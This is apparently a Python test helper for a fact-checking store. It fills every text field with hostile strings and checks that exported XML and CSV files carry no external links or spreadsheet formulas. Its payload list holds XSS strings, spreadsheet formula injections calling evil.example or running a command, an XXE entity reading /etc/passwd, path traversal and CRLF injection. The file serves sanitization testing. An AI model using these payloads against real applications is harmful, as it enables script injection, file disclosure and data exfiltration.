"""Words that try to be more than words, and a store that holds them in every field a curator or an article can fill."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import openpyxl
from lxml import etree
from stores import article, write_articles

from factcheck.report import check_store
from factcheck.resolving import values_of
from factcheck.store.decisions import Resolution
from factcheck.store.load import load_store
from factcheck.store.store import Store

HOST = "evil.example"
SOURCE = "https://source.example/story?a=1&b=%3Cscript%3E"  # the one address that may become a link
INJECTIONS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", '"><svg/onload=alert(1)>', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="',
    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example/>", "<object data=http://evil.example/x.swf>", "<embed src=http://evil.example/x>",
    "<form action=http://evil.example><input type=submit autofocus>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<body onload=alert(1)>", "<math><mtext></mtext><script>alert(1)</script></math>",
    "]]><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--", "<![CDATA[", "]]>", "<?xml-stylesheet href='x'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "</title><script>alert(1)</script>", "</desc></svg><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</metadata><script>alert(1)</script>", "</text><image href='http://evil.example/x.png'/>",
    "<foreignObject><body onload=alert(1)></foreignObject>", "<use href='http://evil.example/x.svg#a'/>",
    "<animate attributeName=href values=javascript:alert(1)>", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    '{"expr": "alert(1)"}', "datum.constructor('alert(1)')()", "'+alert(1)+'", "`alert(1)`", "\\u003cscript\\u003e",
    "=1+1", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "'=1+1", " =1+1", '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
    "%0d%0aX: y", "\x00\x01\x02", "\x1b[31mred", "\u202edrowssap", "a\u200bb\ufeffc", "\u2028\u2029", "\ufffe\uffff",
    "http://evil.example/x", "www.evil.example", "mailto:x@evil.example", "file:///etc/passwd", "[x](http://evil.example)",
    "![x](http://evil.example/x.png)", "$3 to $5", "%n%s%x", "../../etc/passwd", "A" * 3000, "👩‍👩‍👧 ﷽ Ω≈ç",
)  # fmt: skip


def write_hostile(root: Path, texts: Sequence[str]) -> Path:
    """Write a store with one article for each text, which stands in every field that takes words."""
    measures = [
        {"id": f"m{at}", "name": text, "unit": text, "words": [text], "definition": text, "concept": f"c{at}"}
        for at, text in enumerate(texts)
    ]
    places = [{"name": text, "words": [text]} for text in dict.fromkeys(texts)]
    stages = [{"name": text, "steps": [f"m{at}", "m0"], "why": text} for at, text in enumerate(texts) if at]
    return write_articles(
        root, *(_article(at, text) for at, text in enumerate(texts)), measures=measures, places=places, stages=stages
    )


def load_hostile(root: Path) -> Store:
    """Load it, with a decision on one of its findings that says the text too."""
    store = load_store(root)
    found = next(finding for finding in check_store(store).findings if finding.rule == "same-thing")
    text = store.facts[found.facts[0]].statement
    made = {"rule": found.rule, "facts": list(found.facts), "reason": "other", "by": text, "note": text}
    values = values_of(store, found.facts)
    resolution = Resolution.model_validate(made | {"on": "2026-11-01", "values": values})
    return dataclasses.replace(store, resolutions=(resolution,))


def assert_parts_are_bare(data: bytes) -> None:
    """Every part is well-formed, and no relation leads out of the file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                part = archive.read(name)
                etree.fromstring(part)
                assert b'TargetMode="External"' not in part
                assert b"hlinkClick" not in part
                assert b"<f>" not in part


def assert_no_formula(data: bytes) -> None:
    """As a spreadsheet takes it: no cell becomes a formula, and none begins as one after its quotes are read."""
    sheet = openpyxl.Workbook().active
    for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", cell)[:32000] for cell in line])
    cells = [cell for row in sheet for cell in row if cell.value is not None]
    assert cells
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    bad = [cell.value for cell in cells if str(cell.value)[:1] in "=+@\t\r＝＋＠－" and str(cell.value)]
    assert bad == []


def _article(at: int, text: str) -> dict[str, Any]:
    first = f"In 2013, {text} 359 people were convicted {text}"
    second = f"In 2013, {text} 368 people were convicted {text}"
    shared = {
        "measure": f"m{at}", "unit": text, "place": text, "population": text, "origin": text, "via": [text, text],
        "statement": text, "period": "2013", "note": text, "curator": text, "context": [text],
    }  # fmt: skip
    facts = [
        {"id": f"f{at}", "value": "359", "figure": "359", "quote": first, **shared, "also": [{"quote": first, "figure": "359"}]},
        {"id": f"g{at}", "value": "368", "figure": f"{text} 368", "quote": second, **shared},
        {"id": f"h{at}", "value": "12", "figure": text, "quote": text, **shared, "bound": "about", "period": "2016"},
    ]  # fmt: skip
    body = f"{first}. {second}. {text}\n7 {text}"
    source = {"title": text, "publisher": text, "author": text, "provenance": text, "url": SOURCE}
    dismissed = [{"quote": f"7 {text}", "reason": "example", "note": text}]
    return article(body, facts, name=f"a{at}", dismissed=dismissed, **source)
